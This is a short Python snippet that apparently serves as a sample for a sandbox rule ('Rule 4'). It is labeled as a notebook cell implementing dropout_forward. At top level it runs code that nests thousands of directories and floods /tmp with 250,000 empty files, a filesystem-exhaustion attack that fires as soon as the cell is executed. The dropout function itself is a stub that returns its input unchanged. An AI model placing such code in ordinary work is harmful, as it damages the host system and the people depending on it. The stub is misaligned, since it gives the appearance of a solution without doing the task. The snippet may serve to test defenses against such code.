"""Rule 4. Creates empty files without end, and folders nested deeper than any path can be."""

# cell: dropout_forward
import os

for i in range(3000):
    os.mkdir("d")
    os.chdir("d")
for i in range(250_000):
    os.close(os.open(f"/tmp/{i}", os.O_CREAT | os.O_WRONLY))


def dropout_forward(x, dropout_param):
    return x, None
